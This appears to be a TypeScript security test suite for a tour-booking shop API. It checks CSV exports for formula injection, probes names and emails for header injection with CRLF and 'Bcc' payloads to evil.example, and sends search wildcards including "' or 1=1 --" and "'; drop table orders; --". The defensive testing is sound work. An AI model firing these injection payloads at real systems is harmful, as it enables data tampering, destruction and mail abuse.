import { parse } from 'csv-parse/sync';
import type { Account } from '../access/account.ts';
import { pathOf } from '../access/calls.ts';
import { contactOf, selectionOf } from '../access/fill-orders.ts';
import type { Placed } from '../access/matrix.ts';
import type { World } from '../access/world.ts';
import { Attempts } from './outcome.ts';

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  ' =1+1',
  '＝1+1',
  '=HYPERLINK("http://x")',
  '|calc',
  '"=1',
  '%0A=1',
  ';=1',
  ',=1',
  '\u00A0=1',
  '\uFEFF=1',
];

/** Makes orders whose guests are named like formulas, and reads every export. */
export async function tryFormulas({ a }: World, placed: readonly Placed[]): Promise<Attempts> {
  const attempts = new Attempts();
  const { engine, seller } = a;
  for (const name of formulas) {
    const contact = { ...contactOf(a), first_name: name, last_name: name };
    await order(a, contact, name);
  }
  for (const { route, line } of placed) {
    if (route.method !== 'GET' || ['anyone', 'knower'].includes(line.needs)) continue;
    for (const language of ['en', 'de', 'hr']) {
      const query = '?page_size=100&date_from=2026-11-01&date_to=2026-12-31&date=2026-12-11';
      const headers = { ...(await seller.headers()), accept: 'text/csv', 'accept-language': language };
      const response = await engine.app(
        new Request(`http://shop.example${pathOf(route, line, a).split('?')[0]}${query}`, { headers }),
      );
      if (!response.headers.get('content-type')?.startsWith('text/csv')) break;
      const text = (await response.text()).replace(/^\uFEFF/, '');
      const cells = parse(text, {
        delimiter: language === 'en' ? ',' : ';',
        relax_column_count: true,
      }).flat();
      const wrong = cells.filter(
        (it) => /^[\s\u00A0\uFEFF]*[=+\-@|＝＋－＠]/.test(it) && !/^-?[\d.,]+$/.test(it) && !it.startsWith('|'),
      );
      attempts.note(`${route.path} in ${language}`, wrong.length > 0 && `has ${JSON.stringify(wrong.slice(0, 3))}`);
      attempts.note(
        route.path,
        /[\r\n"]/.test(/filename="([^"]*)"/.exec(response.headers.get('content-disposition') ?? '')?.[1] ?? '') &&
          'has a file name with quotes',
      );
    }
  }
  attempts.note('the exports', attempts.tried < 6 && 'were not found');
  return attempts;
}

async function order(account: Account, main_contact_info: object, note: string) {
  const lines = [selectionOf(account, '2026-12-11', 1)];
  const body = {
    store: account.ids['store'],
    lines,
    main_contact_info,
    note,
    staff_note: note,
    payment_method_id: '1',
    payment_type_id: 'cash',
    amount: '40.00',
    paid: true,
  };
  return account.seller.send('POST', '/api/orders/', body);
}

const breaks = [
  '\r\nBcc: qz@evil.example',
  '\nX-Qz: 1',
  '\rX-Qz: 1',
  '%0d%0aBcc: qz@evil.example',
  '\u2028Bcc: x',
  '\u0085Bcc: x',
  '\0',
  '\u000BX-Qz: 1',
  '=?utf-8?q?=0D=0ABcc:_x?=',
];

/** Puts line breaks into every name that reaches an email or a header. A text with one is refused, or is one line. */
export async function tryBreaks(world: World): Promise<Attempts> {
  const attempts = new Attempts();
  const { a, engine } = world;
  for (const end of breaks) {
    const contact = {
      ...contactOf(a),
      first_name: `Ana${end}`,
      last_name: `Anić${end}`,
      email: `ana${attempts.tried}@example.com`,
    };
    const answer = await order(a, contact, `a note${end}`);
    attempts.note(`order ${JSON.stringify(end)}`, answer.status >= 500 && `answers ${answer.status}`);
    const address = await order(a, { ...contact, email: `ana@example.com${end}` }, 'a note');
    attempts.note(
      `address ${JSON.stringify(end)}`,
      address.status < 400 &&
        !/^\s*$/.test(end) &&
        `is taken: ${JSON.stringify(address.body['main_contact_info']).slice(0, 200)}`,
    );
    for (const [method, path, body] of [
      ['PATCH', `/api/stores/${a.ids['store']}/`, { title: `Shop${end}` }],
      ['PATCH', `/api/base-accounts/${a.ids['account']}/`, { company_display_name: `Tours${end}` }],
      ['PATCH', '/api/users/me/', { first_name: `Ana${end}` }],
      ['PATCH', `/api/experiences/${a.ids['experience']}/`, { title: `Walk${end}` }],
      [
        'POST',
        '/api/team-members/',
        { base_account: a.ids['account'], role: a.ids['role'], email: `x${attempts.tried}@example.com${end}` },
      ],
      ['POST', `/api/departures/${a.ids['departure']}/message/`, { subject: `Rain${end}`, message: `Rain${end}` }],
    ] as const) {
      const { status } = await a.seller.send(method, path, body);
      attempts.note(`${method} ${path} ${JSON.stringify(end)}`, status >= 500 && `answers ${status}`);
    }
    await engine.send('POST', '/api/webstores/partner-requests/', {
      body: {
        kind: 'supplier',
        company: `C${end}`,
        name: `N${end}`,
        email: `p${attempts.tried}@example.com`,
        message: 'x',
      },
    });
  }
  return attempts;
}

const wild = [
  '%',
  '_',
  "'",
  '"',
  '\\',
  '%%',
  '\\%',
  "' or 1=1 --",
  "'; drop table orders; --",
  '"*"',
  '* NOT x',
  'NEAR(a b)',
  'a OR b',
  '{a b}',
  '^a',
  ':',
  '-',
  '(',
  '\u0000',
  '%00',
  '\uD800',
  'a'.repeat(3_000),
];

/**
 * Searches with signs that a database reads as its own: they find nothing, because no text has them, and break nothing.
 *
 * @param thinned  one of so many requests is sent
 */
export async function tryWildcards({ a, engine }: World, placed: readonly Placed[], thinned = 1): Promise<Attempts> {
  const attempts = new Attempts();
  let n = 0;
  for (const { route, line } of placed) {
    if (route.method !== 'GET' || !route.endpoint?.query || ['anyone', 'knower', 'operator'].includes(line.needs))
      continue;
    for (const text of wild)
      for (const key of ['search', 'ordering', 'email', 'status', 'before', 'date_from']) {
        n += 1;
        if (n % thinned > 0) continue;
        const path = `${pathOf(route, line, a).split('?')[0]}?${new URLSearchParams({ [key]: text })}`;
        const answer = await engine.app(
          new Request(`http://shop.example${path}`, { headers: await a.seller.headers() }),
        );
        const body = await answer.text();
        attempts.note(`${route.path} ${key}=${text.slice(0, 20)}`, answer.status >= 500 && `answers ${answer.status}`);
        const isMatch =
          key === 'search' &&
          ['%', '_', '%%', "' or 1=1 --", '\\%'].includes(text) &&
          answer.status === 200 &&
          takesSearch(route);
        const count = isMatch ? ((JSON.parse(body) as { count?: number }).count ?? 0) : 0;
        attempts.note(`${route.path} search=${text}`, count > 0 && `finds ${count}`);
      }
  }
  return attempts;
}

const takesSearch = ({ path }: Placed['route']) =>
  /customers|guides|filer-folders|promo-codes|onboardings|inventory/.test(path);
